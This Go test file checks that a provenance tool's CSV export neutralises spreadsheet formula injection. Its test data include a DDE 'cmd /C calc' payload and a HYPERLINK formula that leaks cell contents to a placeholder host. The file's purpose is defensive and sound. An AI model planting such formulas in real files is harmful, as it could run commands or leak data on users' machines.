package export

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/copytrail/copytrail/provenance/export/exporttest"
	"github.com/copytrail/copytrail/provenance/graphlayout"
)

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.invalid","click")`: `'=HYPERLINK("http://x.invalid","click")`,
		"+1+cmd|' /C calc'!A0":                   "'+1+cmd|' /C calc'!A0",
		"-2+3":                                   "'-2+3",
		"@SUM(A1:A9)":                            "'@SUM(A1:A9)",
		"\t=1":                                   "'\t=1",
		"\r=1":                                   "'\r=1",
		"- a bulleted line":                      "'- a bulleted line",
		"-":                                      "'-",
		"-0.25":                                  "-0.25",
		"+3":                                     "+3",
		"1e-5":                                   "1e-5",
		"-1.5E+3":                                "-1.5E+3",
		"-1.":                                    "'-1.",
		"A =1":                                   "A =1",
		"":                                       "",
		"'quoted'":                               "'quoted'",
		"Ørnes = 3":                              "Ørnes = 3",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestHostileTitleInEveryFormat writes an analysis whose article titles and
// outlets are formulas: every CSV shows them as text behind an apostrophe,
// while JSON Lines, GraphML and GEXF keep them exactly.
func TestHostileTitleInEveryFormat(t *testing.T) {
	r := exporttest.Sample()
	formulas := []string{
		`=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the source")`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		"+1+1",
		"-1+1",
		"\t=1+1",
	}
	r.Documents[0].Meta.Title.Value = formulas[0]
	r.Documents[1].Meta.Title.Value = formulas[1]
	r.Documents[2].Meta.Title.Value = formulas[2]
	r.Documents[0].Meta.Outlet.Value = formulas[3]
	r.Documents[1].Meta.Author.Value = formulas[4]
	r.OutletEdges[0].Source = formulas[3]
	dir := t.TempDir()
	if _, err := WriteAll(dir, r, Options{Formats: []string{"csv", "jsonl", "graphml", "gexf"}}); err != nil {
		t.Fatal(err)
	}
	csvs, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
	if len(csvs) < 7 {
		t.Fatalf("%d CSV files written", len(csvs))
	}
	seen := map[string]bool{}
	for _, name := range csvs {
		b, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !plainNumber(cell) {
					t.Errorf("%s: a spreadsheet would run %q", filepath.Base(name), cell)
				}
				for _, f := range formulas {
					if cell == "'"+f {
						seen[f] = true
					}
				}
			}
		}
	}
	for _, f := range formulas {
		if !seen[f] {
			t.Errorf("%q does not appear, neutralised, in any CSV", f)
		}
	}
	// The other formats keep the text exact.
	for _, name := range []string{"documents.jsonl", "passages.jsonl"} {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(b, []byte(`"'=HYPERLINK`)) || !bytes.Contains(b, []byte(`"=HYPERLINK(\"http://example.invalid/?leak=\"\u0026A1`)) {
			t.Errorf("%s does not carry the title exactly", name)
		}
	}
	var gml, gexf bytes.Buffer
	g := graphlayout.DocumentGraph(r)
	if err := GraphML(&gml, g); err != nil {
		t.Fatal(err)
	}
	if err := GEXF(&gexf, g); err != nil {
		t.Fatal(err)
	}
	for name, b := range map[string][]byte{"GraphML": gml.Bytes(), "GEXF": gexf.Bytes()} {
		if !bytes.Contains(b, []byte(`=HYPERLINK(&#34;http://example.invalid/?leak=&#34;&amp;A1`)) || bytes.Contains(b, []byte("&#39;=HYPERLINK")) {
			t.Errorf("%s does not carry the title exactly:\n%s", name, b)
		}
	}
}
